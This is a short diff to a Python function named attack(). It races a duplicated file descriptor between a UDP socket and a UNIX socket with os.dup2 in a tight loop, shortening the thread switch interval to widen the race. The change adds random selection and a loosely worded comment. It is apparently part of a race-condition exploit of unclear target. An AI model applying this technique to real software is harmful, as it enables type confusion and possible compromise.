@@ -1,5 +1,6 @@
 import ctypes
 import os
+import random
 import socket
 import struct
 import sys
@@ -24,12 +25,12 @@ def attack(places: Places) -> str | None:
     raw = struct.pack("=H", socket.AF_INET) + port + host + bytes(8)
     udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
-    place, swaps = os.dup(unix.fileno()), list[int]()
+    place, swaps, both = os.dup(unix.fileno()), list[int](), (udp.fileno(), unix.fileno())
 
     def swap() -> None:
         while True:
-            os.dup2(udp.fileno(), place)
-            os.dup2(unix.fileno(), place)
+            # By chance: in turn, the two threads may fall into step, and each look meets the same.
+            os.dup2(random.choice(both), place)
             swaps.append(1)
 
     sys.setswitchinterval(0.0005)
